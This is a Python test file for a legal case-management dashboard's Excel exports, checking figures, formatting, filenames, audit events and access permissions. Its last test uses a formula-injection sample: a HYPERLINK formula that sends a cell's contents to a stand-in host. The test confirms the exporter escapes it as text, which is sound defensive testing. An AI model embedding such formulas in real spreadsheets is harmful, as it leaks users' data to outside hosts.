"""Excel exports of the dashboard: read back with openpyxl they equal the API's figures, each is audited once.

The fixture is ``test_dashboard``'s (figures computed by hand there); today is 2026-11-22.
"""

from __future__ import annotations

import copy
import datetime as dt
import io
from decimal import Decimal
from urllib.parse import quote

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from rest_framework.test import APIClient

from legalcase.exports import Column, xlsx_bytes
from legalcase.models import AuditAction, AuditEvent
from legalcase.services.dashboard import TABLES
from tests.legalcase.test_dashboard import TODAY, build_board
from tests.shared_rows import shared_rows

pytestmark = pytest.mark.django_db


@pytest.fixture(scope="module")
def board_rows(django_db_setup, django_db_blocker):
    """The dashboard's board, written once for the module's tests (tests/shared_rows.py)."""
    with shared_rows(django_db_blocker, "dashboard board"):
        with pytest.MonkeyPatch.context() as patch:
            patch.setattr("django.utils.timezone.localdate", lambda *args, **kwargs: TODAY)
            built = build_board()
        yield built


@pytest.fixture
def board(board_rows, monkeypatch):
    monkeypatch.setattr("django.utils.timezone.localdate", lambda *args, **kwargs: TODAY)
    return copy.deepcopy(board_rows)  # a test may change its objects in memory


def export(client, user, table, **params):
    client.force_login(user)
    client.cookies["django_language"] = "en"  # headers in English: the Chinese comes with the integrator's merge
    return client.get(reverse("dashboard_export", args=[table]), params)


def sheet(response) -> list[tuple]:
    assert response.status_code == 200, response.content[:300]
    workbook = load_workbook(io.BytesIO(response.content))
    return list(workbook.active.iter_rows(values_only=True))


def api_body(user, **params) -> dict:
    client = APIClient()
    client.force_authenticate(user)
    client.cookies["django_language"] = "en"  # as the exports: the same bucket names
    response = client.get("/api/v1/dashboard/", params)
    assert response.status_code == 200
    return response.json()


def money(value) -> str:
    return f"{Decimal(str(value)):.2f}"


def rate(value) -> str | None:
    return None if value is None else f"{Decimal(str(value)):.4f}"


def audits(user) -> list[AuditEvent]:
    return list(AuditEvent.objects.filter(actor=user, action=AuditAction.EXPORT).order_by("id"))


# Each table equals the API ------------------------------------------------------------------------


def test_recoveries_by_month_read_back_equal_the_api(client, board):
    rows = sheet(export(client, board.manager, "recoveries_by_month"))
    assert rows[0] == ("Month", "Recovered")
    body = api_body(board.manager)
    assert [(month.strftime("%Y-%m"), money(amount)) for month, amount in rows[1:]] == [
        (row["month"], row["amount"]) for row in body["recoveries_by_month"]
    ]
    assert isinstance(rows[1][0], dt.datetime)  # a real date, shown yyyy-mm
    assert money(rows[4][1]) == "5000.00"  # 2026-03


@pytest.mark.parametrize("table", ["rates_by_portfolio", "rates_by_creditor", "rates_by_firm"])
def test_rates_read_back_equal_the_api(client, board, table):
    rows = sheet(export(client, board.counsel, table))
    assert rows[0][1:] == ("Number of matters", "Claim at escalation", "Recovered", "Recovery rate")
    body = api_body(board.counsel)
    assert [(name, n, money(claim), money(recovered), rate(r)) for name, n, claim, recovered, r in rows[1:]] == [
        (row["name"], row["matters"], row["claim_total"], row["recovered"], row["rate"]) for row in body[table]
    ]


def test_matters_by_stage_read_back_equal_the_api(client, board):
    rows = sheet(export(client, board.counsel, "matters_by_stage"))
    body = api_body(board.counsel)
    assert [(n, money(claim), money(recovered)) for _label, n, claim, recovered in rows[1:]] == [
        (row["matters"], row["claim_total"], row["recovered"]) for row in body["matters_by_stage"]
    ]
    assert rows[1][0] == "Intake" and len(rows) == 1 + 10


def test_the_lapsing_export_has_every_row_of_the_three_bands(client, board):
    rows = sheet(export(client, board.counsel, "lapsing"))
    assert rows[0] == ("Lapsing within", "Matter number", "Debtor", "Measure", "Asset", "Expires on", "Days left")
    assert [(r[1], r[5].date(), r[6]) for r in rows[1:]] == [
        (board.m1.number, dt.date(2026, 12, 10), 18),
        (board.m3.number, dt.date(2026, 12, 22), 30),
        (board.m2.number, dt.date(2026, 12, 31), 39),
        (board.m1.number, dt.date(2027, 1, 15), 54),
        (board.m1.number, dt.date(2027, 2, 10), 80),
    ]
    assert rows[1][4] == "招商银行 尾号1234"


def test_scorecards_read_back_equal_the_api(client, board):
    rows = sheet(export(client, board.counsel, "scorecards"))
    header = rows[0]
    assert header[0] == "Law firm" and len(header) == 22
    body = api_body(board.counsel)
    for row, card in zip(rows[1:], body["scorecards"], strict=True):
        assert row[0] == card["firm"]["name"]
        assert row[1:4] == (card["matters_ever"], card["matters_current"], card["filing_days"]["count"])
        assert [None if v is None else f"{Decimal(str(v)):.1f}" for v in row[4:6]] == [
            card["filing_days"]["median"],
            card["filing_days"]["mean"],
        ]
        assert (money(row[9]), money(row[10]), rate(row[11])) == (card["claim_total"], card["recovered"], card["rate"])
        assert row[12:21] == (
            card["asset_investigations"], card["preservation_actions"], card["enforcement_actions"],
            card["dishonest_listings"], card["consumption_restrictions"], card["auctions"],
            card["contacts"], card["promises_kept"], card["promises_broken"],
        )  # fmt: skip
        assert money(row[21]) == card["recovered_after_contact"]
    firm_a = next(row for row in rows[1:] if row[0] == "甲律师事务所")
    assert (firm_a[4], round(firm_a[5], 1), rate(firm_a[11])) == (20, 31.7, "0.2222")


# Format, filename, audit ------------------------------------------------------------------------------


def test_an_export_is_formatted_named_and_audited_once(client, board):
    response = export(client, board.manager, "recoveries_by_month")
    assert response["Content-Type"].startswith("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert f"filename*=utf-8''{quote('回款月度_2026-11-22.xlsx')}" in disposition
    worksheet = load_workbook(io.BytesIO(response.content)).active
    assert worksheet.freeze_panes == "A2"
    assert worksheet["A1"].font.b and worksheet["B1"].font.b
    assert worksheet["B2"].number_format == "#,##0.00"
    assert worksheet["A2"].number_format == "yyyy-mm"
    assert worksheet.column_dimensions["B"].width == 16
    [event] = audits(board.manager)
    assert event.target == "dashboard:recoveries_by_month"
    assert event.detail == {
        "filters": {"portfolio": None, "creditor": None},
        "period": {"from": "2026-11-01", "to": "2026-11-22"},  # the range of the flow tables (services.kpi)
        "rows": 12,
        "as_of": "2026-11-22",
    }


def test_rates_are_percent_cells_and_the_filters_are_audited(client, board):
    response = export(client, board.counsel, "rates_by_creditor", creditor=board.c2.pk)
    worksheet = load_workbook(io.BytesIO(response.content)).active
    assert worksheet["E2"].number_format == "0.0%" and worksheet["C2"].number_format == "#,##0.00"
    assert [row[0] for row in worksheet.iter_rows(min_row=2, values_only=True)] == ["二号资产管理公司"]
    [event] = audits(board.counsel)
    assert event.detail["filters"] == {"portfolio": None, "creditor": board.c2.pk} and event.detail["rows"] == 1


def test_every_table_exports_for_a_manager(client, board):
    for table in TABLES:
        assert export(client, board.manager, table).status_code == 200
    assert [event.target for event in audits(board.manager)] == [f"dashboard:{table}" for table in TABLES]


# Scope, permissions, bad input ------------------------------------------------------------------------


def test_a_lawyer_exports_only_their_own_firms_scorecard(client, board):
    rows = sheet(export(client, board.lawyer_b, "scorecards"))
    assert [row[0] for row in rows[1:]] == ["乙律师事务所"]
    assert rows[1][1:3] == (1, 1)
    assert len(audits(board.lawyer_b)) == 1


@pytest.mark.parametrize("table", [t for t in TABLES if t != "scorecards"])
def test_a_lawyer_may_not_export_other_tables(client, board, table):
    assert export(client, board.lawyer_a, table).status_code == 403
    assert audits(board.lawyer_a) == []


def test_an_unknown_table_is_404_and_not_audited(client, board):
    assert export(client, board.counsel, "debtors").status_code == 404
    assert audits(board.counsel) == []


def test_a_bad_filter_is_400_and_not_audited(client, board):
    response = export(client, board.counsel, "rates_by_firm", portfolio="abc")
    assert response.status_code == 400
    assert audits(board.counsel) == []


def test_exports_need_a_sign_in(client, board):
    assert client.get(reverse("dashboard_export", args=["scorecards"])).status_code == 302
    assert not AuditEvent.objects.exists()


def test_the_helper_writes_types_widths_and_a_bold_frozen_header():
    content = xlsx_bytes(
        sheet="a/b:c",
        columns=[Column("Name"), Column("Money", "money"), Column("Rate", "rate"), Column("On", "date", 14)],
        rows=[("x", Decimal("1234.50"), Decimal("0.1234"), dt.date(2026, 1, 2)), ("y", None, None, None)],
    )
    worksheet = load_workbook(io.BytesIO(content)).active
    assert worksheet.title == "a b c"
    assert list(worksheet.iter_rows(values_only=True)) == [
        ("Name", "Money", "Rate", "On"),
        ("x", 1234.5, 0.1234, dt.datetime(2026, 1, 2)),
        ("y", None, None, None),
    ]
    assert worksheet["B2"].number_format == "#,##0.00" and worksheet["C2"].number_format == "0.0%"
    assert worksheet["D2"].number_format == "yyyy-mm-dd" and worksheet.column_dimensions["D"].width == 14
    assert worksheet["A1"].font.b and worksheet.freeze_panes == "A2"


def test_typed_text_that_looks_like_a_formula_is_written_as_text():
    evil = '=HYPERLINK("http://x/?"&C2,"点此")'
    content = xlsx_bytes(sheet="s", columns=[Column("Asset"), Column("Name")], rows=[(evil, "@SUM(1)"), ("普通", "-1")])
    worksheet = load_workbook(io.BytesIO(content)).active
    assert [cell.data_type for cell in worksheet[2]] == ["s", "s"]
    assert (worksheet["A2"].value, worksheet["B2"].value) == ("'" + evil, "'@SUM(1)")
    assert (worksheet["A3"].value, worksheet["B3"].value) == ("普通", "'-1")
